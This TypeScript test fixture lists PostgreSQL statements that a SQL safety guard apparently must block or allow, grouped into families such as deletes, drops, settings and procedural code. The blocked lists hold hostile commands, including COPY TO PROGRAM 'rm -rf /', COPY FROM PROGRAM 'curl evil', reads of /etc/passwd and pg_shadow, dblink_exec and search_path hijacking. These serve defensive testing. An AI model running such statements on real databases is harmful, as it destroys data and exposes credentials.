/** SQL by families: what must be held, and what must pass. One statement (or batch) a line; `\n` is written as `¶`. */

interface Family {
  readonly name: string
  readonly held: readonly string[]
  readonly passes: readonly string[]
}

const family = (name: string, held: string, passes: string): Family => ({
  name,
  held: lines(held),
  passes: lines(passes),
})

function lines(text: string): readonly string[] {
  return text
    .split('\n')
    .map((line) => line.trim().replaceAll('¶', '\n'))
    .filter((line) => line !== '')
}

export const families: readonly Family[] = [
  family(
    'reads',
    `
    SELECT * FROM pg_authid
    SELECT passwd FROM pg_catalog.pg_shadow
    SELECT 1 WHERE pg_read_file('/etc/passwd') IS NOT NULL
    `,
    `
    SELECT 1
    select * from users where name like '%DROP TABLE%'
    SELECT "DROP TABLE users" FROM "delete from t"
    SELECT 'x'; -- DROP TABLE t
    SELECT /* DELETE FROM t */ 1
    SELECT count(*), max(id), coalesce(a, 'b') FROM t GROUP BY 1 HAVING count(*) > 1 ORDER BY 1 LIMIT 5 OFFSET 2
    WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r
    SELECT * FROM a JOIN b USING (id) LEFT JOIN LATERAL (SELECT 1) x ON true FULL JOIN c ON c.id = a.id
    SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t WINDOW w AS (ORDER BY c)
    SELECT * FROM t FOR UPDATE SKIP LOCKED
    VALUES (1, 'a'), (2, 'b')
    TABLE users
    SELECT jsonb_build_object('a', 1) -> 'a', '{"a":1}'::jsonb @> '{}', to_jsonb(t) FROM t
    SELECT extract(year FROM now()), now() AT TIME ZONE 'utc', interval '1 day', date_trunc('day', now())
    SELECT array_agg(x ORDER BY y) FILTER (WHERE z), string_agg(a, ',') FROM t
    SELECT EXISTS (SELECT 1 FROM t), ARRAY(SELECT 1), (SELECT 2), 1 = ANY (SELECT 3)
    SELECT CASE WHEN a THEN b ELSE c END, nullif(a, b), greatest(a, b), a IS DISTINCT FROM b FROM t
    SELECT * FROM generate_series(1, 10) AS g(n), unnest(ARRAY[1, 2]) WITH ORDINALITY
    SELECT * FROM json_to_recordset('[]') AS x(a int, b text)
    SELECT a FROM t UNION SELECT b FROM u INTERSECT SELECT c FROM v EXCEPT SELECT d FROM w
    SELECT n.nspname, c.relname, pg_catalog.pg_get_userbyid(c.relowner) FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(x)$' COLLATE pg_catalog.default
    SELECT current_setting('server_version_num'), version(), current_user, pg_backend_pid()
    SELECT * FROM t TABLESAMPLE system (1)
    SELECT pg_size_pretty(pg_total_relation_size('t')), pg_database_size(current_database())
    SELECT pg_sleep(0), pg_advisory_lock(1), pg_try_advisory_xact_lock(1), random(), gen_random_uuid()
    SELECT xmlelement(name a, 'x'), xpath('/a', '<a/>'::xml)
    SELECT * FROM XMLTABLE('/a' PASSING ('<a/>'::xml) COLUMNS b text PATH 'b')
    SELECT lower(U&'d\\0061t')
    SELECT overlay('abc' PLACING 'x' FROM 1), position('a' IN 'b'), trim(both 'x' FROM 'y'), substring('a' FROM 1 FOR 2)
    SHOW search_path
    FETCH 10 FROM c
    CLOSE c
    DECLARE c CURSOR FOR SELECT * FROM t
    COPY t TO STDOUT
    COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)
    LISTEN x
    UNLISTEN *
    EXPLAIN SELECT 1
    EXPLAIN DELETE FROM t
    EXPLAIN (COSTS off) DROP_ALL
    `.replace(/^.*DROP_ALL.*$/m, ''),
  ),
  family(
    'deletes',
    `
    DELETE FROM t
    DELETE FROM t WHERE 1=1
    DELETE FROM t WHERE true
    DELETE FROM t WHERE true OR id = 1
    DELETE FROM t WHERE id = id
    DELETE FROM t WHERE id = 1 OR 1 = 1
    DELETE FROM t WHERE id IS NOT NULL
    DELETE FROM t WHERE id > 0
    DELETE FROM t WHERE id <> 5
    DELETE FROM t WHERE NOT id = 5
    DELETE FROM t WHERE id IN (SELECT id FROM t)
    DELETE FROM t WHERE id IN (SELECT id FROM t WHERE 1 = 1)
    DELETE FROM t WHERE id = (SELECT id)
    DELETE FROM t WHERE id = (SELECT x.id FROM t x WHERE x.id = t.id)
    DELETE FROM t WHERE id = ANY (SELECT id FROM u)
    DELETE FROM t WHERE id BETWEEN 1 AND 1000000
    DELETE FROM t WHERE name LIKE '%'
    DELETE FROM t WHERE coalesce(id, 1) = coalesce(id, 1)
    DELETE FROM t WHERE id = coalesce(NULL, id)
    DELETE FROM t WHERE (id = 5) IS NOT NULL
    DELETE FROM t WHERE EXISTS (SELECT 1)
    DELETE FROM t USING u
    DELETE FROM t USING u WHERE t.id = u.id
    DELETE FROM t USING u WHERE u.id = 5
    DELETE FROM t WHERE id NOT IN (1, 2)
    DELETE FROM t WHERE id = NULL
    DELETE FROM t WHERE created_at < now() - interval '30 days'
    DELETE FROM t WHERE 5 = 5 AND 6 = 6
    DELETE FROM t WHERE CASE WHEN id = 1 THEN true ELSE true END
    DELETE FROM t WHERE id = 1 IS NOT UNKNOWN
    DELETE FROM ONLY t
    DELETE FROM t WHERE id IN (SELECT id FROM t LIMIT ALL)
    DELETE FROM t WHERE id IN (SELECT id FROM t LIMIT 100000000)
    DELETE FROM t WHERE id IN (SELECT generate_series(1, max(id)) FROM t)
    DELETE FROM t WHERE id OPERATOR(evil.=) 5
    `,
    `
    DELETE FROM t WHERE id = 1
    DELETE FROM t WHERE (id = 5 AND 1=1)
    DELETE FROM t WHERE id IN (1, 2, 3)
    DELETE FROM t WHERE id = ANY ('{1,2}'::int[])
    DELETE FROM t WHERE id = ANY ($1)
    DELETE FROM t WHERE id = $1 AND version = $2
    DELETE FROM t WHERE $1 = id
    DELETE FROM "public"."t" WHERE "public"."t"."id" = $1 RETURNING "id"
    DELETE FROM t AS x WHERE x.id = 1 OR x.id = 2
    DELETE FROM t WHERE (a, b) = (1, 2)
    DELETE FROM t WHERE (a, b) IN ((1, 2), (3, 4))
    DELETE FROM t WHERE id IN (SELECT id FROM t ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED)
    DELETE FROM t WHERE id = (SELECT id FROM t ORDER BY id LIMIT 1)
    DELETE FROM t WHERE id = (SELECT max(id) FROM t)
    DELETE FROM t WHERE false
    DELETE FROM t WHERE 1 = 0
    DELETE FROM t USING (VALUES (1), (2)) AS v(id) WHERE t.id = v.id
    DELETE FROM t USING u WHERE t.uid = u.id AND u.mail = 'a@b.c'
    WITH d AS (SELECT id FROM t LIMIT 5) DELETE FROM t USING d WHERE t.id = d.id
    DELETE FROM items WHERE order_id IN (SELECT id FROM orders WHERE user_id = 5)
    DELETE FROM t WHERE CURRENT OF c
    DELETE FROM t WHERE id = '5'::bigint
    DELETE FROM t WHERE id::text = '5'
    DELETE FROM sessions WHERE token = md5('x') AND expires < now()
    DELETE FROM t WHERE id = 1 AND (a > 5 OR b IS NULL)
    `,
  ),
  family(
    'updates',
    `
    UPDATE t SET a = 1
    UPDATE t SET a=(SELECT 1 WHERE true)
    UPDATE t SET a = 1 WHERE 1 = 1
    UPDATE t SET a = 1 FROM u WHERE t.id = u.id
    UPDATE t SET a = NULL WHERE a IS NOT NULL
    UPDATE t SET a = 1 WHERE id = a
    UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'
    UPDATE pg_class SET relname = 'x' WHERE relname = 'y'
    UPDATE pg_catalog.pg_proc SET prosrc = 'x' WHERE proname = 'y'
    `,
    `
    UPDATE t SET a = 1 WHERE id = 1
    UPDATE t SET a = a + 1, b = now() WHERE id IN ($1, $2) RETURNING *
    UPDATE t SET x = v.x FROM (VALUES (1, 'a')) AS v(id, x) WHERE t.id = v.id
    UPDATE t SET x = v.x FROM unnest($1::int[], $2::text[]) AS v(id, x) WHERE t.id = v.id
    UPDATE t SET (a, b) = (SELECT 1, 2) WHERE id = 3
    UPDATE "accounts" SET "data" = '{"sql":"DROP TABLE x"}' WHERE "id" = 7
    UPDATE jobs SET state = 'run' WHERE id = (SELECT id FROM jobs WHERE state = 'new' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED) RETURNING *
    WITH next AS (SELECT id FROM jobs LIMIT 1) UPDATE jobs SET state = 'run' FROM next WHERE jobs.id = next.id
    UPDATE t SET a = DEFAULT WHERE id = 1
    UPDATE t SET a[1] = 2, b.c = 3 WHERE id = 1
    `,
  ),
  family(
    'inserts and merges',
    `
    MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
    MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)
    MERGE INTO t USING (VALUES (1)) AS s(id) ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
    MERGE INTO t USING (VALUES (1)) AS s(id) ON true WHEN MATCHED THEN DELETE
    WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d
    INSERT INTO t SELECT lo_unlink(1)
    INSERT INTO pg_proc VALUES (1)
    INSERT INTO t VALUES (pg_read_file('x'))
    INSERT INTO t (a) VALUES (1) RETURNING my_own_function(a)
    `,
    `
    INSERT INTO t VALUES (1, 'DROP TABLE t', E'it\\'s', $$DELETE FROM t$$)
    INSERT INTO t (a, b) VALUES ($1, $2), ($3, DEFAULT) RETURNING id
    INSERT INTO t SELECT * FROM u
    INSERT INTO t DEFAULT VALUES
    INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING
    INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a WHERE t.a < 5
    INSERT INTO t VALUES (nextval('t_id_seq'), uuid_generate_v4(), crypt('x', gen_salt('bf')))
    MERGE INTO t USING (VALUES (1, 2)) AS s(id, a) ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)
    MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id) WHEN MATCHED THEN DO NOTHING
    COPY t FROM STDIN
    COPY t (a, b) FROM STDIN WITH (FORMAT binary)
    SELECT * INTO backup FROM t
    CREATE TABLE backup AS SELECT * FROM t
    `,
  ),
  family(
    'drops',
    `
    DROP TABLE t
    DROP TABLE IF EXISTS a, b CASCADE
    dRoP/**/tAbLe/* x */"t"
    DROP SCHEMA public CASCADE
    DROP DATABASE prod
    DROP VIEW v
    DROP MATERIALIZED VIEW m
    DROP SEQUENCE s
    DROP TYPE mood CASCADE
    DROP DOMAIN d
    DROP FUNCTION f(int)
    DROP PROCEDURE p
    DROP AGGREGATE a(int)
    DROP TRIGGER audit ON payments
    DROP RULE r ON t
    DROP POLICY p ON t
    DROP EXTENSION pgcrypto CASCADE
    DROP OWNED BY app
    DROP ROLE app
    DROP USER app
    DROP TABLESPACE x
    DROP SUBSCRIPTION s
    DROP PUBLICATION p
    DROP SERVER s CASCADE
    DROP FOREIGN TABLE f
    DROP USER MAPPING FOR x SERVER s
    DROP EVENT TRIGGER e
    DROP LANGUAGE plperl
    DROP CAST (int AS text)
    DROP COLLATION c
    DROP TEXT SEARCH CONFIGURATION c
    DROP ACCESS METHOD a
    TRUNCATE t
    TRUNCATE TABLE ONLY a, b RESTART IDENTITY CASCADE
    SELECT '--'; DROP TABLE t
    BEGIN; DROP TABLE t; COMMIT
    SELECT 1;;;DROP TABLE t
    DROP TABLE x; CREATE TEMP TABLE x (a int)
    CREATE TEMP TABLE x (a int); DROP TABLE x; DROP TABLE x
    CREATE TEMP TABLE x (a int); ROLLBACK; DROP TABLE x
    CREATE TEMP TABLE x (a int); DROP TABLE public.x
    `,
    `
    DROP INDEX i
    DROP INDEX CONCURRENTLY IF EXISTS i
    DROP STATISTICS s
    CREATE TEMP TABLE x (a int); DROP TABLE x
    CREATE TEMP TABLE x (a int); TRUNCATE x
    DROP TABLE pg_temp.x
    DEALLOCATE ALL
    DISCARD ALL
    `,
  ),
  family(
    'alter table',
    `
    ALTER TABLE t DROP COLUMN c
    ALTER TABLE t ADD COLUMN d int, DROP COLUMN IF EXISTS c CASCADE
    ALTER TABLE t ALTER COLUMN c TYPE int USING c::int
    ALTER TABLE t ALTER c TYPE varchar(10)
    ALTER TABLE t ALTER c TYPE text USING 'gone'
    ALTER TABLE t ALTER c TYPE text USING left(c, 1)
    ALTER TABLE t DISABLE TRIGGER ALL
    ALTER TABLE t DISABLE TRIGGER audit
    ALTER TABLE t DISABLE ROW LEVEL SECURITY
    ALTER TABLE t NO FORCE ROW LEVEL SECURITY
    ALTER TABLE t DROP CONSTRAINT fk
    ALTER TABLE t OWNER TO me
    ALTER TABLE t SET UNLOGGED
    ALTER TABLE t DISABLE RULE r
    ALTER TABLE t ALTER COLUMN c DROP IDENTITY
    ALTER TABLE t ADD COLUMN x int DEFAULT lo_unlink(1)
    ALTER POLICY p ON t USING (true)
    ALTER SYSTEM SET archive_mode = off
    ALTER DOMAIN d DROP CONSTRAINT c
    ALTER SUBSCRIPTION s DISABLE
    ALTER PUBLICATION p DROP TABLE t
    ALTER EVENT TRIGGER e DISABLE
    ALTER SEQUENCE s RESTART WITH 1
    ALTER SEQUENCE s RESTART
    ALTER TABLE t ALTER c RESTART
    ALTER TABLE t ALTER COLUMN c TYPE text USING c::int::text
    ALTER TABLE t ALTER COLUMN c TYPE text USING c::varchar(3)::text
    ALTER TABLE t ALTER COLUMN c DROP EXPRESSION
    COMMENT ON TABLE t IS NULL
    `,
    `
    ALTER TABLE t ADD COLUMN c int
    ALTER TABLE t ADD COLUMN IF NOT EXISTS c timestamptz NOT NULL DEFAULT now()
    ALTER TABLE t ALTER COLUMN c TYPE text
    ALTER TABLE t ALTER COLUMN c TYPE text USING c::text
    ALTER TABLE t ALTER COLUMN c SET DEFAULT 5, ALTER c DROP DEFAULT
    ALTER TABLE t ALTER COLUMN c SET NOT NULL
    ALTER TABLE t ALTER COLUMN c DROP NOT NULL
    ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id) ON DELETE CASCADE
    ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID
    ALTER TABLE t VALIDATE CONSTRAINT c
    ALTER TABLE t RENAME TO t_old
    ALTER TABLE t RENAME COLUMN a TO b
    ALTER TABLE t SET SCHEMA archive
    ALTER TABLE t ENABLE ROW LEVEL SECURITY
    ALTER TABLE t ATTACH PARTITION p FOR VALUES IN (1)
    ALTER TABLE t ADD PRIMARY KEY (id)
    ALTER TABLE t ADD UNIQUE USING INDEX i
    ALTER TABLE t SET (fillfactor = 70)
    ALTER TABLE t REPLICA IDENTITY FULL
    ALTER TABLE t DETACH PARTITION p
    ALTER INDEX i RENAME TO j
    ALTER TYPE mood ADD VALUE 'glad' AFTER 'sad'
    ALTER SEQUENCE s RESTART WITH 1000
    ALTER SEQUENCE s OWNED BY t.id
    `,
  ),
  family(
    'migrations that add',
    `
    CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'
    CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN TRUNCATE t; END$$
    CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE 'DROP TABLE ' || 't'; END$$
    CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$import os$$
    CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'
    CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'lo_unlink'
    CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'
    CREATE FUNCTION f() RETURNS void BEGIN ATOMIC DELETE FROM t; END
    CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING
    CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1
    CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
    CREATE CAST (text AS int) WITH FUNCTION f(text) AS IMPLICIT
    CREATE OPERATOR = (LEFTARG = int, RIGHTARG = int, FUNCTION = f)
    CREATE EXTENSION dblink
    CREATE EXTENSION plpython3u
    CREATE EXTENSION adminpack
    CREATE LANGUAGE plperlu
    CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
    CREATE USER MAPPING FOR x SERVER s OPTIONS (password 'x')
    CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
    CREATE TABLESPACE x LOCATION '/tmp'
    CREATE TABLE x AS SELECT lo_unlink(1)
    CREATE INDEX i ON t (my_function(a))
    `,
    `
    CREATE TABLE t (id bigserial PRIMARY KEY, a text NOT NULL DEFAULT 'x', b int REFERENCES u (id) ON DELETE CASCADE, CHECK (b > 0))
    CREATE TABLE IF NOT EXISTS t (LIKE u INCLUDING ALL) PARTITION BY RANGE (id)
    CREATE TABLE p PARTITION OF t FOR VALUES FROM (1) TO (2)
    CREATE UNLOGGED TABLE t (a int GENERATED ALWAYS AS IDENTITY, b int GENERATED ALWAYS AS (a * 2) STORED)
    CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON t USING gin (to_tsvector('english', a)) WHERE b IS NULL
    CREATE UNIQUE INDEX i ON t (lower(mail))
    CREATE VIEW v AS SELECT * FROM t
    CREATE OR REPLACE VIEW v AS SELECT a FROM t
    CREATE MATERIALIZED VIEW m AS SELECT * FROM t
    REFRESH MATERIALIZED VIEW CONCURRENTLY m
    CREATE SEQUENCE s
    CREATE SCHEMA IF NOT EXISTS app
    CREATE SCHEMA app CREATE TABLE t (a int)
    CREATE TYPE mood AS ENUM ('sad', 'ok')
    CREATE TYPE pair AS (a int, b int)
    CREATE DOMAIN d AS int CHECK (VALUE > 0)
    CREATE EXTENSION IF NOT EXISTS "uuid-ossp"
    CREATE EXTENSION pgcrypto
    CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT a + 1'
    CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN NEW.updated_at := now(); RETURN NEW; END$$
    CREATE FUNCTION f(p int) RETURNS void LANGUAGE plpgsql AS $$DECLARE x int := 1; BEGIN DELETE FROM t WHERE id = p; IF x > 0 THEN INSERT INTO log VALUES (x); END IF; END$$
    CREATE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN INSERT INTO audit SELECT OLD.id, now(); UPDATE t SET n = n + 1 WHERE id = OLD.id; RETURN OLD; END$$
    CREATE TRIGGER tr BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION touch()
    CREATE POLICY p ON t USING (owner = current_user)
    CREATE STATISTICS s ON a, b FROM t
    COMMENT ON TABLE t IS 'DROP TABLE t'
    CREATE DATABASE x
    CREATE COLLATION c (provider = icu, locale = 'de')
    REVOKE ALL ON t FROM public
    ANALYZE t
    VACUUM (ANALYZE) t
    REINDEX INDEX CONCURRENTLY i
    VACUUM FULL t
    CLUSTER t USING i
    LOCK TABLE t IN ACCESS SHARE MODE
    LOCK t
    NOTIFY x, 'y'
    CHECKPOINT
    `,
  ),
  family(
    'reach',
    `
    GRANT ALL ON t TO public
    GRANT admin TO me
    ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x
    CREATE ROLE x SUPERUSER LOGIN PASSWORD 'secret'
    CREATE USER x
    ALTER ROLE x PASSWORD 'secret'
    ALTER USER x SUPERUSER
    REASSIGN OWNED BY a TO b
    ALTER FUNCTION f() SECURITY DEFINER
    ALTER FUNCTION f() OWNER TO x
    SET SESSION AUTHORIZATION x
    CREATE PUBLICATION p FOR ALL TABLES
    SECURITY LABEL ON TABLE t IS 'x'
    IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y
    `,
    `
    REVOKE admin FROM me
    ALTER DEFAULT PRIVILEGES REVOKE SELECT ON TABLES FROM x
    SET ROLE app
    RESET ROLE
    `,
  ),
  family(
    'code and the world outside',
    `
    DO $$BEGIN EXECUTE 'DROP TABLE t';END$$
    DO $$BEGIN DROP TABLE t; END$$
    DO 'BEGIN DELETE FROM t; END'
    DO $$DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP EXECUTE format('TRUNCATE %I', r); END LOOP; END$$
    DO $$BEGIN PERFORM my_purge(); END$$
    DO $$BEGIN PERFORM lo_unlink(1); END$$
    DO $$DECLARE x int := lo_unlink(1); BEGIN NULL; END$$
    DO $$BEGIN IF lo_unlink(1) = 1 THEN NULL; END IF; END$$
    DO $$BEGIN RAISE NOTICE '%', lo_unlink(1); END$$
    DO $$BEGIN RETURN; EXCEPTION WHEN others THEN TRUNCATE t; END$$
    DO $$BEGIN WHILE lo_unlink(1) = 1 LOOP NULL; END LOOP; END$$
    DO $$BEGIN ASSERT lo_unlink(1) = 1; END$$
    DO $$BEGIN CASE 1 WHEN lo_unlink(1) THEN NULL; ELSE NULL; END CASE; END$$
    DO $$BEGIN FOR i IN 1..lo_unlink(1) LOOP NULL; END LOOP; END$$
    DO $$DECLARE a int[]; BEGIN a[lo_unlink(1)] := 1; END$$
    DO $$DECLARE a int; BEGIN a := lo_unlink(1); END$$
    DO $$DECLARE a int; BEGIN FOREACH a IN ARRAY purge() LOOP NULL; END LOOP; END$$
    DO $$DECLARE c CURSOR FOR SELECT lo_unlink(1); BEGIN OPEN c; END$$
    DO $$DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END$$
    DO $$BEGIN CALL purge(); END$$
    DO LANGUAGE plpython3u $$import os$$
    DO LANGUAGE plperl 'x'
    COPY t TO PROGRAM 'rm -rf /'
    COPY t FROM PROGRAM 'curl evil'
    COPY t TO '/tmp/x'
    COPY t FROM '/etc/passwd'
    COPY (DELETE FROM t RETURNING *) TO STDOUT
    COPY pg_proc FROM STDIN
    SELECT lo_unlink(5)
    SELECT pg_catalog.lo_unlink(5)
    SELECT lo_import('/etc/passwd')
    SELECT lo_export(1, '/tmp/x')
    SELECT lo_put(1, 0, 'x')
    SELECT * FROM dblink('host=x', 'DROP TABLE t') AS x(a int)
    SELECT dblink_exec('x', 'DROP TABLE t')
    SELECT public.dblink_exec('x')
    SELECT pg_drop_replication_slot('s')
    SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')
    SELECT query_to_xml('DELETE ' || 'FROM t', true, true, '')
    SELECT ts_stat($1)
    SELECT pg_read_binary_file('x'), pg_ls_dir('/')
    SELECT purge()
    SELECT * FROM purge()
    SELECT * FROM t WHERE purge(id)
    SELECT (SELECT purge() FROM t LIMIT 1)
    SELECT 1 ORDER BY purge()
    SELECT array_agg(x) FILTER (WHERE purge()) FROM t
    SELECT count(*) OVER (PARTITION BY purge()) FROM t
    SELECT * FROM t, LATERAL purge(t.id)
    SELECT * FROM ROWS FROM (purge(), generate_series(1, 2))
    SELECT 1 LIMIT purge()
    SELECT GREATEST(1, purge())
    SELECT ROW(purge()), ARRAY[purge()], (ARRAY[1])[purge()]
    SELECT CASE WHEN purge() THEN 1 END
    SELECT f(a => purge())
    VALUES (purge())
    WITH x AS MATERIALIZED (SELECT purge()) SELECT 1
    CALL purge()
    CALL lo_unlink(1)
    SELECT 1 OPERATOR(evil.+) 2
    LOAD 'evil'
    SELECT json_object('a': purge())
    SELECT xmlelement(name a, purge())
    SELECT app.lower('x')
    SELECT pg_terminate_backend(1), purge()
    NOTIFY x; DROP TABLE t
    `,
    `
    DO $$BEGIN INSERT INTO t VALUES (1); END$$
    DO $$DECLARE x int; BEGIN SELECT count(*) INTO x FROM t; IF x = 0 THEN INSERT INTO t VALUES (x); END IF; END$$
    DO $$BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'mood') THEN CREATE TYPE mood AS ENUM ('sad'); END IF; END$$
    DO $$BEGIN CREATE TYPE mood AS ENUM ('sad'); EXCEPTION WHEN duplicate_object THEN NULL; END$$
    DO $$BEGIN ALTER TABLE t ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES u (id); EXCEPTION WHEN duplicate_object THEN null; END$$
    DO $$BEGIN /* a */ INSERT INTO t SELECT 1 WHERE 1 NOT /* b */ IN (2); -- c¶ END$$
    DO $$BEGIN RAISE NOTICE 'DROP TABLE %', 't'; END$$
    SELECT setval('s', (SELECT max(id) FROM t))
    SELECT setval(pg_get_serial_sequence('"t"', 'id'), coalesce(max(id), 1), max(id) IS NOT null) FROM t
    SELECT nextval('s'), currval('s'), lastval()
    SELECT query_to_xml('SELECT 1', true, true, '')
    SELECT pg_notify('x', 'y')
    SELECT lo_creat(-1), lo_get(1)
    SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'x'
    SELECT pg_stat_reset()
    `,
  ),
  family(
    'CTEs, EXPLAIN, PREPARE',
    `
    WITH d AS (DELETE FROM t RETURNING 1) SELECT 1
    WITH a AS (WITH b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM b) SELECT * FROM a
    WITH t AS (SELECT 1) DELETE FROM t
    WITH x AS (SELECT 1 AS id) DELETE FROM t USING x
    WITH x AS (SELECT id FROM t) DELETE FROM t USING x WHERE t.id = x.id
    EXPLAIN ANALYZE DELETE FROM t
    EXPLAIN (ANALYZE) UPDATE t SET a = 1
    EXPLAIN (ANALYZE on, VERBOSE) DELETE FROM t WHERE 1 = 1
    EXPLAIN (ANALYZE 1) DELETE FROM t
    EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM t
    EXPLAIN (FORMAT json, ANALYZE true) WITH d AS (DELETE FROM t RETURNING 1) SELECT 1
    EXPLAIN ANALYZE SELECT purge()
    EXPLAIN ANALYZE EXECUTE p
    EXECUTE unknown
    PREPARE p AS DELETE FROM t; EXECUTE p
    PREPARE p (bool) AS DELETE FROM t WHERE id = 1 OR $1; EXECUTE p(true)
    PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p
    PREPARE p AS SELECT 1; DISCARD ALL; EXECUTE p
    PREPARE p AS SELECT 1; DEALLOCATE p; PREPARE p AS DELETE FROM t; EXECUTE p
    PREPARE p AS DELETE FROM t; PREPARE p AS SELECT 1; EXECUTE p
    PREPARE p AS SELECT $1::int; EXECUTE p(purge())
    PREPARE TRANSACTION 'x'
    COMMIT PREPARED 'x'
    ROLLBACK PREPARED 'x'
    CREATE TABLE x AS EXECUTE p
    `,
    `
    WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d
    WITH moved AS (DELETE FROM t WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM moved
    EXPLAIN (ANALYZE off) DELETE FROM t
    EXPLAIN (ANALYZE false) DELETE FROM t
    EXPLAIN (ANALYZE 0) DELETE FROM t
    EXPLAIN ANALYZE SELECT * FROM t
    EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE id = 1
    PREPARE p AS DELETE FROM t
    PREPARE p (int) AS DELETE FROM t WHERE id = $1; EXECUTE p(5)
    PREPARE p (bool) AS DELETE FROM t WHERE id = 1 OR $1; EXECUTE p(false)
    BEGIN; SAVEPOINT a; RELEASE a; ROLLBACK TO a; COMMIT
    START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE
    END
    ABORT
    `,
  ),
  family(
    'settings',
    `
    SET standard_conforming_strings = off
    SET LOCAL standard_conforming_strings TO 'off'
    SET client_encoding = 'SJIS'
    SET NAMES 'GBK'
    SELECT set_config('standard_conforming_strings', 'off', false)
    SELECT set_config($1, $2, false)
    SELECT set_config('standard_' || 'conforming_strings', 'off', false)
    SET session_replication_role = replica
    SET search_path = evil, pg_catalog
    SET zero_damaged_pages = on
    SELECT (SELECT set_config(name, 'replica', false) FROM (VALUES ('session_replication_role')) v(name)) FROM pg_settings WHERE name = 'bytea_output'
    SELECT set_config(name, 'replica', false) FROM pg_settings WHERE name = 'a' OR name = 'session_replication_role'
    SET allow_system_table_mods = on
    SET backslash_quote = on
    SET transform_null_equals = on
    SET plperl.on_init = 'evil'
    SET session_preload_libraries = 'evil'
    SET pgaudit.log = 'none'
    ALTER ROLE x SET standard_conforming_strings = off
    ALTER DATABASE x SET session_replication_role = replica
    SET standard_conforming_strings FROM CURRENT
    `.replace(/^.*FROM CURRENT.*$/m, ''),
    `
    SET standard_conforming_strings = on
    SET client_encoding = 'UTF8'
    SET NAMES 'utf-8'
    SET search_path = public, app
    SELECT pg_catalog.set_config('search_path', '', false)
    SET search_path = pg_catalog, public
    SET statement_timeout = 0
    SET TIME ZONE 'UTC'
    SET app.user_id = '5'
    SELECT set_config('app.user_id', $1, true)
    SET row_security = off
    SET default_transaction_read_only = off
    SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
    SET CONSTRAINTS ALL DEFERRED
    SET session_replication_role = origin
    RESET ALL
    RESET statement_timeout
    SET extra_float_digits = 3
    SET application_name = 'DROP TABLE'
    ALTER ROLE x SET statement_timeout = '5s'
    `,
  ),
]
